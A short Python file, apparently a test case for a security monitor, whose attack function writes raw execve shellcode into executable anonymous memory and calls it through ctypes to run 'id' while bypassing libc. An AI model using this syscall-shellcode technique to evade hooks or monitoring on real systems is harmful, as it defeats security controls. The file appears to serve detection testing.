"""Code of one's own in memory of one's own: it asks the kernel without asking libc."""

import ctypes
import mmap
import platform
import shutil

from ctypes_execve import in_a_fork

# mov eax, 59; syscall; ret · mov x8, #221; svc #0; ret
EXECVE = {"x86_64": b"\xb8\x3b\x00\x00\x00\x0f\x05\xc3", "aarch64": bytes.fromhex("a81b80d2010000d4c0035fd6")}


def attack(event):
    room = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    room.write(EXECVE[platform.machine()])
    kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)
    execve = kind(ctypes.addressof(ctypes.c_char.from_buffer(room)))
    words = (ctypes.c_char_p * 2)(b"id", None)
    nothing = (ctypes.c_char_p * 1)(None)
    return in_a_fork(event, lambda: execve(shutil.which("id").encode(), words, nothing))
